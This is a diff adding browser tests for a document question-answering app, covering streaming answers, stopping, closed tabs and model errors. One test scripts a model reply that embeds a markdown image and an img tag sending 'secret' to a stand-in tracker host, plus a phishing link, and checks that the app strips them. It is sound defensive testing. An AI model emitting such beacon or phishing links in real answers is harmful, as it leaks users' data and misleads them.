@@ -1,0 +1,113 @@
+"""With a chat model: streaming, Stop, a closed tab, dead links, a model that fails."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from tests.browser.conftest import watched_page
+from tests.browser.serving import Bernard
+from tests.browser.steps import File, add_files, ask, open_ask, type_question, wait_until_loaded
+from tests.model_server import ModelServer, Reply, serving
+
+pytestmark = pytest.mark.browser
+
+LEAVE = b"""# Leave
+
+## Carrying over
+
+You may carry over up to 10 days of leave if your manager agrees before 31 March.
+"""
+QUESTION = "How many days of leave may I carry over?"
+
+
+@pytest.fixture(scope="module")
+def models() -> Iterator[ModelServer]:
+    with serving() as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def bernard(
+    tmp_path_factory: pytest.TempPathFactory, models: ModelServer, browser: Browser
+) -> Iterator[Bernard]:
+    served = Bernard(tmp_path_factory.mktemp("bernard") / "home", models.environment())
+    served.start()
+    for page in watched_page(browser, served.url):
+        add_files(page, [File("leave.md", LEAVE)], "HR Policy", owner="HR Policy Team")
+        wait_until_loaded(page, "leave.md")
+    yield served
+    served.stop()
+
+
+def test_the_answer_is_checked_and_its_links_are_dead(page: Page, models: ModelServer) -> None:
+    models.script(
+        Reply(
+            (
+                "You may carry over up to 10 days of leave ",
+                "if your manager agrees before 31 March [1]. ",
+                "![x](http://tracker.example/?q=secret) <img src=http://tracker.example/b>",
+                "See [this](http://phishing.example) [1].",
+            )
+        )
+    )
+    open_ask(page)
+    expect(page.get_by_text("go to the language model test-model at 127.0.0.1")).to_be_visible()
+
+    answer = ask(page, QUESTION)
+
+    expect(answer).to_contain_text("up to 10 days of leave")
+    expect(answer.locator("a.mark").first).to_be_visible()
+    assert page.locator(".answer a:not(.mark), .answer img").count() == 0
+    page.get_by_text("How this answer was made").click()
+    expect(page.locator("details.how")).to_contain_text("test-model")
+
+
+def test_stop_keeps_the_question_and_what_was_written(page: Page, models: ModelServer) -> None:
+    models.script(Reply(("You may carry ", *("on and " for _ in range(200))), delay=0.1))
+    open_ask(page)
+    type_question(page, QUESTION)
+    expect(page.locator(".answer .words")).to_contain_text("You may carry")
+
+    page.get_by_role("button", name="Stop").click()
+
+    expect(page.locator(".stopped")).to_contain_text("Stopped.")
+    expect(page.locator(".answer .words")).to_contain_text("You may carry")
+    expect(page.get_by_role("button", name="Stop")).to_have_count(0)
+    page.reload()
+    expect(page.locator("h2.question")).to_have_text(QUESTION)
+    expect(page.locator(".stopped")).to_contain_text("What had been written is kept.")
+
+
+def test_a_closed_tab_keeps_the_question_and_what_was_written(
+    page: Page, models: ModelServer
+) -> None:
+    models.script(Reply(("You may carry ", *("on and " for _ in range(200))), delay=0.1))
+    open_ask(page)
+    type_question(page, QUESTION)
+    expect(page.locator(".answer .words")).to_contain_text("You may carry")
+    address = page.url
+    other = page.context.new_page()
+    page.close()
+
+    other.goto(address)
+    expect(other.locator(".answer .words")).to_contain_text("You may carry")
+    for _ in range(10):
+        if other.locator(".stopped").count():
+            break
+        other.wait_for_timeout(1000)
+        other.reload()
+        expect(other.locator(".answer")).to_be_visible()
+    expect(other.locator(".stopped")).to_be_visible()
+
+
+def test_a_model_that_fails_leaves_the_documents_own_words(page: Page, models: ModelServer) -> None:
+    models.script(Reply(status=401, error={"message": "bad key", "type": "auth"}))
+    open_ask(page)
+
+    answer = ask(page, QUESTION)
+
+    expect(answer).to_contain_text("These are the documents' own words instead.")
+    expect(answer).to_contain_text("You may carry over up to 10 days")
